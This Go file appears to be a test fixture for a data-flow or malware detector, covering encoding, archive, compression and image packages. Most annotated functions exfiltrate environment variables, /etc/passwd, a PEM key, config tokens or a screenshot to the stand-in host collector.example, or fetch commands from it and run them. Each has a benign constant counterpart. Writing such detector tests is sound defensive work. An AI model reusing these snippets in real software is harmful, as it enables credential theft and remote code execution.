// Formats, encodings and compression: encoding/*, yaml, toml, protobuf, msgpack, archive/*, compress/*, images.
package models

import (
	"archive/tar"
	"archive/zip"
	"bytes"
	"compress/gzip"
	"encoding/base64"
	"encoding/binary"
	"encoding/csv"
	"encoding/gob"
	"encoding/hex"
	"encoding/json"
	"encoding/pem"
	"encoding/xml"
	"fmt"
	"image"
	"image/png"
	"io"
	"log"
	"net"
	"net/http"
	"os"
	"os/exec"
	"strconv"
	"strings"

	"github.com/BurntSushi/toml"
	"github.com/golang/snappy"
	"github.com/kbinani/screenshot"
	"github.com/klauspost/compress/zstd"
	"github.com/mitchellh/mapstructure"
	yaml "gopkg.in/yaml.v3"
)

const U = "https://collector.example/u?"

func marshalled(c net.Conn) {
	b, _ := json.Marshal(map[string]string{"t": os.Getenv("T")}) //~ source(ENVIRONMENT) f1
	c.Write(b) //~ sink(egress.socket) f1, finding(traced) f1
}

func marshalledStruct(c net.Conn) {
	b, _ := yaml.Marshal(struct{ Token string }{os.Getenv("T")}) //~ source(ENVIRONMENT) f2
	c.Write(b) //~ sink(egress.socket) f2, finding(traced) f2
}

func marshalledConstant(c net.Conn) {
	b, _ := json.Marshal(map[string]string{"t": "ping"}) //~ ok
	c.Write(b) //~ ok
}

func unmarshalled() {
	response, _ := http.Get(U) //~ source(NETWORK) f4
	b, _ := io.ReadAll(response.Body)
	var task struct{ Command string }
	json.Unmarshal(b, &task)
	exec.Command(task.Command).Run() //~ sink(exec.command) f4, finding(traced) f4
}

func unmarshalledConstant() {
	var task struct{ Command string }
	json.Unmarshal([]byte("{}"), &task) //~ ok
	exec.Command(task.Command).Run() //~ ok
}

func restructured() {
	var task struct{ Token string }
	mapstructure.Decode(map[string]string{"token": os.Getenv("T")}, &task) //~ source(ENVIRONMENT) f6
	http.Get(U + task.Token) //~ sink(egress.http) f6, finding(traced) f6
}

func restructuredConstant() {
	var task struct{ Token string }
	mapstructure.Decode(map[string]string{"token": "a"}, &task) //~ ok
	http.Get(U + task.Token) //~ ok
}

func encodedToConnection(c net.Conn) {
	json.NewEncoder(c).Encode(os.Environ()) //~ source(ENVIRONMENT) f8, sink(egress.socket) f8, finding(traced) f8
}

func compressedToAnswer(w http.ResponseWriter) {
	z := gzip.NewWriter(w)
	z.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f9, sink(egress.http) f9, finding(traced) f9
}

func encodedToConnectionConstant(c net.Conn) {
	json.NewEncoder(c).Encode("ping") //~ ok
}

func encoder() {
	var b bytes.Buffer
	json.NewEncoder(&b).Encode(os.Environ()) //~ source(ENVIRONMENT) f11
	http.Post(U, "", &b) //~ sink(egress.http) f11, finding(traced) f11
}

func encoderConstant() {
	var b bytes.Buffer
	json.NewEncoder(&b).Encode("ping") //~ ok
	http.Post(U, "", &b) //~ ok
}

func encoded() {
	var b bytes.Buffer
	e := gob.NewEncoder(&b)
	e.Encode(os.Environ()) //~ source(ENVIRONMENT) f13
	http.Post(U, "", &b) //~ sink(egress.http) f13, finding(traced) f13
}

func encodedConstant() {
	var b bytes.Buffer
	gob.NewEncoder(&b).Encode("ping") //~ ok
	http.Post(U, "", &b) //~ ok
}

func encoderFlushed(w *csv.Writer) {
	w.Write([]string{os.Getenv("T")})
	http.Get(U + w.Error().Error()) //~ ok
}

func encodedOut(c net.Conn) {
	gob.NewEncoder(c).Encode(os.Environ()) //~ source(ENVIRONMENT) f16, sink(egress.socket) f16, finding(traced) f16, capability(NETWORK)
}

func encodedOutConstant(c net.Conn) {
	gob.NewEncoder(c).Encode("ping") //~ ok
}

func loggedOut(c net.Conn) {
	log.New(c, "", 0).Println(os.Getenv("T")) //~ source(ENVIRONMENT) f18, sink(egress.socket) f18, finding(traced) f18, capability(NETWORK)
}

func loggedOutConstant(c net.Conn) {
	log.New(c, "", 0).Println("ping") //~ ok
}

func decoder() {
	response, _ := http.Get(U) //~ source(NETWORK) f20
	var task struct{ Command string }
	json.NewDecoder(response.Body).Decode(&task)
	exec.Command(task.Command).Run() //~ sink(exec.command) f20, finding(traced) f20
}

func decoderConstant() {
	var task struct{ Command string }
	json.NewDecoder(strings.NewReader("{}")).Decode(&task) //~ ok
	exec.Command(task.Command).Run() //~ ok
}

func decoderOfConnection(c net.Conn) {
	var command string
	gob.NewDecoder(c).Decode(&command) //~ source(NETWORK) f22
	exec.Command(command).Run() //~ sink(exec.command) f22, finding(traced) f22
}

func decoderOfConnectionUnused(c net.Conn) {
	gob.NewDecoder(c) //~ ok
}

func decoded(d *json.Decoder) {
	d = json.NewDecoder(strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f24
	var v struct{ Token string }
	d.Decode(&v)
	http.Get(U + v.Token) //~ sink(egress.http) f24, finding(traced) f24
}

func decodedConstant() {
	var v struct{ Token string }
	json.NewDecoder(strings.NewReader("{}")).Decode(&v) //~ ok
	http.Get(U + v.Token) //~ ok
}

func token() {
	d := xml.NewDecoder(strings.NewReader(os.Getenv("T"))) //~ source(ENVIRONMENT) f26
	t, _ := d.Token()
	http.Get(U + fmt.Sprint(t)) //~ sink(egress.http) f26, finding(traced) f26
}

func tokenConstant() {
	t, _ := xml.NewDecoder(strings.NewReader("<a/>")).Token() //~ ok
	http.Get(U + fmt.Sprint(t)) //~ ok
}

func records() {
	f, _ := os.Open("/tmp/t.csv") //~ source(FILE) f28
	all, _ := csv.NewReader(f).ReadAll()
	http.Get(U + all[0][0]) //~ sink(egress.http) f28, finding(traced) f28
}

func recordsConstant() {
	all, _ := csv.NewReader(strings.NewReader("a")).ReadAll() //~ ok
	http.Get(U + all[0][0]) //~ ok
}

func decodedFile() {
	var v struct{ Token string }
	toml.DecodeFile("/etc/agent.toml", &v) //~ source(FILE) f30, capability(FILES)
	http.Get(U + v.Token) //~ sink(egress.http) f30, finding(traced) f30
}

func decodedFileUnused() {
	var v struct{ Token string }
	toml.DecodeFile("/etc/agent.toml", &v) //~ ok
}

func base64Text() {
	http.Get(U + base64.StdEncoding.EncodeToString([]byte(os.Getenv("T")))) //~ source(ENVIRONMENT) f32, sink(egress.http) f32, finding(traced) f32
	http.Get(U + base64.StdEncoding.EncodeToString([]byte("a"))) //~ ok
}

func base64Bytes() {
	b, _ := base64.URLEncoding.DecodeString(os.Getenv("T")) //~ source(ENVIRONMENT) f33
	http.Get(U + string(b)) //~ sink(egress.http) f33, finding(traced) f33
}

func base64BytesConstant() {
	b, _ := base64.URLEncoding.DecodeString("aaaa") //~ ok
	http.Get(U + string(b)) //~ ok
}

func base64Into(b []byte) {
	base64.StdEncoding.Encode(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f35
	http.Get(U + string(b)) //~ sink(egress.http) f35, finding(traced) f35
}

func base64IntoConstant(b []byte) {
	base64.StdEncoding.Encode(b, []byte("a")) //~ ok
	http.Get(U + string(b)) //~ ok
}

func base64Length() {
	http.Get(U + strconv.Itoa(base64.StdEncoding.EncodedLen(os.Getuid()))) //~ ok
}

func base64Writer() {
	var b bytes.Buffer
	w := base64.NewEncoder(base64.StdEncoding, &b)
	w.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f38
	http.Post(U, "", &b) //~ sink(egress.http) f38, finding(traced) f38
}

func base64WriterConstant() {
	var b bytes.Buffer
	w := base64.NewEncoder(base64.StdEncoding, &b) //~ ok
	w.Write([]byte("ping"))
	http.Post(U, "", &b) //~ ok
}

func base64Reader() {
	response, _ := http.Get(U) //~ source(NETWORK) f40
	b, _ := io.ReadAll(base64.NewDecoder(base64.StdEncoding, response.Body))
	exec.Command(string(b)).Run() //~ sink(exec.command) f40, finding(traced) f40
}

func base64ReaderConstant() {
	b, _ := io.ReadAll(base64.NewDecoder(base64.StdEncoding, strings.NewReader("a"))) //~ ok
	exec.Command(string(b)).Run() //~ ok
}

func hexText() {
	http.Get(U + hex.EncodeToString([]byte(os.Getenv("T")))) //~ source(ENVIRONMENT) f42, sink(egress.http) f42, finding(traced) f42
	http.Get(U + hex.EncodeToString([]byte("a"))) //~ ok
}

func hexBytes() {
	b, _ := hex.DecodeString(os.Getenv("T")) //~ source(ENVIRONMENT) f43
	http.Get(U + string(b)) //~ sink(egress.http) f43, finding(traced) f43
}

func hexBytesConstant() {
	b, _ := hex.DecodeString("61") //~ ok
	http.Get(U + string(b)) //~ ok
}

func hexInto(b []byte) {
	hex.Encode(b, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f45
	http.Get(U + string(b)) //~ sink(egress.http) f45, finding(traced) f45
}

func hexIntoConstant(b []byte) {
	hex.Encode(b, []byte("a")) //~ ok
	http.Get(U + string(b)) //~ ok
}

func binaryWritten() {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, []byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f47
	http.Post(U, "", &b) //~ sink(egress.http) f47, finding(traced) f47
}

func binaryWrittenConstant() {
	var b bytes.Buffer
	binary.Write(&b, binary.BigEndian, uint32(1)) //~ ok
	http.Post(U, "", &b) //~ ok
}

func binaryRead(c net.Conn) {
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f49
	b := make([]byte, 64)
	binary.Read(f, binary.BigEndian, b)
	c.Write(b) //~ sink(egress.socket) f49, finding(traced) f49
}

func binaryReadConstant(c net.Conn) {
	b := make([]byte, 64)
	binary.Read(strings.NewReader("a"), binary.BigEndian, b) //~ ok
	c.Write(b) //~ ok
}

func binaryPut(c net.Conn) {
	b := make([]byte, 4)
	binary.BigEndian.PutUint32(b, uint32(os.Getuid())) //~ source(USER) f51
	c.Write(b) //~ sink(egress.socket) f51, finding(traced) f51
}

func binaryPutConstant(c net.Conn) {
	b := make([]byte, 4)
	binary.BigEndian.PutUint32(b, 1) //~ ok
	c.Write(b) //~ ok
}

func pemText(c net.Conn) {
	c.Write(pem.EncodeToMemory(&pem.Block{Type: "T", Bytes: []byte(os.Getenv("T"))})) //~ source(ENVIRONMENT) f53, sink(egress.socket) f53, finding(traced) f53
	c.Write(pem.EncodeToMemory(&pem.Block{Type: "T"})) //~ ok
}

func pemWritten() {
	var b bytes.Buffer
	pem.Encode(&b, &pem.Block{Bytes: []byte(os.Getenv("T"))}) //~ source(ENVIRONMENT) f54
	http.Post(U, "", &b) //~ sink(egress.http) f54, finding(traced) f54
}

func pemWrittenConstant() {
	var b bytes.Buffer
	pem.Encode(&b, &pem.Block{Type: "T"}) //~ ok
	http.Post(U, "", &b) //~ ok
}

func pemBlock(c net.Conn) {
	b, _ := os.ReadFile("/etc/key.pem") //~ source(FILE) f56
	block, _ := pem.Decode(b)
	c.Write(block.Bytes) //~ sink(egress.socket) f56, finding(traced) f56
}

func pemBlockConstant(c net.Conn) {
	block, _ := pem.Decode([]byte("-")) //~ ok
	c.Write(block.Bytes) //~ ok
}

func zipOpened() {
	z, _ := zip.OpenReader("/tmp/t.zip") //~ source(FILE) f58, capability(FILES)
	f, _ := z.File[0].Open()
	http.Post(U, "", f) //~ sink(egress.http) f58, finding(traced) f58
}

func zipOpenedOnly() {
	z, _ := zip.OpenReader("/tmp/t.zip") //~ ok
	z.Close()
}

func zipRead() {
	b, _ := os.ReadFile("/tmp/t.zip") //~ source(FILE) f60
	z, _ := zip.NewReader(bytes.NewReader(b), int64(len(b)))
	f, _ := z.Open("a")
	http.Post(U, "", f) //~ sink(egress.http) f60, finding(traced) f60
}

func zipReadConstant() {
	z, _ := zip.NewReader(strings.NewReader("a"), 1) //~ ok
	f, _ := z.Open("a")
	http.Post(U, "", f) //~ ok
}

func zipFiles(z *zip.Reader) {
	z, _ = zip.NewReader(strings.NewReader(os.Getenv("T")), 1) //~ source(ENVIRONMENT) f62
	for _, member := range z.File {
		r, _ := member.Open()
		http.Post(U, "", r) //~ sink(egress.http) f62, finding(traced) f62
	}
}

func zipFilesConstant(z *zip.Reader) {
	for _, member := range z.File { //~ ok
		r, _ := member.Open()
		http.Post(U, "", r) //~ ok
	}
}

func unzipped() {
	response, _ := http.Get(U) //~ source(NETWORK) f64
	z, _ := gzip.NewReader(response.Body)
	b, _ := io.ReadAll(z)
	exec.Command(string(b)).Run() //~ sink(exec.command) f64, finding(traced) f64
}

func unzippedConstant() {
	z, _ := gzip.NewReader(strings.NewReader("a")) //~ ok
	b, _ := io.ReadAll(z)
	exec.Command(string(b)).Run() //~ ok
}

func untarred() {
	response, _ := http.Get(U) //~ source(NETWORK) f66
	r := tar.NewReader(response.Body)
	f, _ := os.Create("/tmp/x")
	io.Copy(f, r) //~ sink(file.write) f66, finding(traced) f66
}

func untarredConstant() {
	r := tar.NewReader(strings.NewReader("a")) //~ ok
	f, _ := os.Create("/tmp/x")
	io.Copy(f, r) //~ ok
}

func tarName() {
	response, _ := http.Get(U) //~ source(NETWORK) f68
	header, _ := tar.NewReader(response.Body).Next()
	exec.Command(header.Name).Run() //~ sink(exec.command) f68, finding(traced) f68
}

func tarNameConstant() {
	header, _ := tar.NewReader(strings.NewReader("a")).Next() //~ ok
	exec.Command(header.Name).Run() //~ ok
}

func zipMember(z *zip.Reader) {
	response, _ := http.Get(U) //~ source(NETWORK) f70
	b, _ := io.ReadAll(response.Body)
	z, _ = zip.NewReader(bytes.NewReader(b), int64(len(b)))
	r, _ := z.Open("run.sh")
	script, _ := io.ReadAll(r)
	exec.Command(string(script)).Run() //~ sink(exec.command) f70, finding(traced) f70
}

func zipMemberUnused(f *zip.File) {
	r, _ := f.Open() //~ ok
	script, _ := io.ReadAll(r)
	exec.Command(string(script)).Run() //~ ok
}

func zipped() {
	var b bytes.Buffer
	z := gzip.NewWriter(&b)
	z.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f72
	z.Close()
	http.Post(U, "", &b) //~ sink(egress.http) f72, finding(traced) f72
}

func zippedConstant() {
	var b bytes.Buffer
	z := gzip.NewWriter(&b) //~ ok
	z.Write([]byte("ping"))
	http.Post(U, "", &b) //~ ok
}

func zippedBest() {
	var b bytes.Buffer
	z, _ := gzip.NewWriterLevel(&b, 9)
	z.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f74
	z.Close()
	http.Post(U, "", &b) //~ sink(egress.http) f74, finding(traced) f74
}

func zippedBestConstant() {
	var b bytes.Buffer
	z, _ := gzip.NewWriterLevel(&b, 9) //~ ok
	z.Write([]byte("ping"))
	http.Post(U, "", &b) //~ ok
}

func compressed(z *gzip.Writer) {
	var b bytes.Buffer
	z = gzip.NewWriter(&b)
	z.Write([]byte(os.Getenv("T"))) //~ source(ENVIRONMENT) f76
	http.Post(U, "", &b) //~ sink(egress.http) f76, finding(traced) f76
}

func compressedConstant(z *gzip.Writer) {
	z.Write([]byte("ping")) //~ ok
}

func zipCreated() {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, _ := z.Create("passwd")
	f, _ := os.Open("/etc/passwd") //~ source(FILE) f78
	io.Copy(w, f)
	z.Close()
	http.Post(U, "", &b) //~ sink(egress.http) f78, finding(traced) f78
}

func zipCreatedConstant() {
	var b bytes.Buffer
	z := zip.NewWriter(&b)
	w, _ := z.Create("a") //~ ok
	io.WriteString(w, "ping")
	http.Post(U, "", &b) //~ ok
}

func tarHeader() {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	w.WriteHeader(&tar.Header{Name: os.Getenv("T")}) //~ source(ENVIRONMENT) f80
	http.Post(U, "", &b) //~ sink(egress.http) f80, finding(traced) f80
}

func tarHeaderConstant() {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	w.WriteHeader(&tar.Header{Name: "a"}) //~ ok
	http.Post(U, "", &b) //~ ok
}

func tarInfo() {
	var b bytes.Buffer
	w := tar.NewWriter(&b)
	info, _ := os.Stat("/etc/passwd") //~ source(FILE_META) f82
	header, _ := tar.FileInfoHeader(info, "")
	w.WriteHeader(header)
	http.Post(U, "", &b) //~ sink(egress.http) f82, finding(traced) f82
}

func tarInfoConstant(info os.FileInfo) {
	var b bytes.Buffer
	header, _ := tar.FileInfoHeader(info, "") //~ ok
	tar.NewWriter(&b).WriteHeader(header)
	http.Post(U, "", &b) //~ ok
}

func snapped(c net.Conn) {
	c.Write(snappy.Encode(nil, []byte(os.Getenv("T")))) //~ source(ENVIRONMENT) f84, sink(egress.socket) f84, finding(traced) f84
	c.Write(snappy.Encode(nil, []byte("ping"))) //~ ok
}

func standard(e *zstd.Encoder, c net.Conn) {
	c.Write(e.EncodeAll([]byte(os.Getenv("T")), nil)) //~ source(ENVIRONMENT) f85, sink(egress.socket) f85, finding(traced) f85
}

func standardConstant(e *zstd.Encoder, c net.Conn) {
	c.Write(e.EncodeAll([]byte("ping"), nil)) //~ ok
}

func image() {
	img, _ := screenshot.CaptureDisplay(0) //~ source(SCREEN) f87
	var b bytes.Buffer
	png.Encode(&b, img)
	http.Post(U, "", &b) //~ sink(egress.http) f87, finding(traced) f87
}

func imageConstant(img image.Image) {
	var b bytes.Buffer
	png.Encode(&b, img) //~ ok
	http.Post(U, "", &b) //~ ok
}

func imageDecoded() {
	f, _ := os.Open("/tmp/t.png") //~ source(FILE) f89
	img, _ := png.Decode(f)
	http.Get(U + fmt.Sprint(img)) //~ sink(egress.http) f89, finding(traced) f89
}

func imageDecodedConstant() {
	img, _ := png.Decode(strings.NewReader("a")) //~ ok
	http.Get(U + fmt.Sprint(img)) //~ ok
}
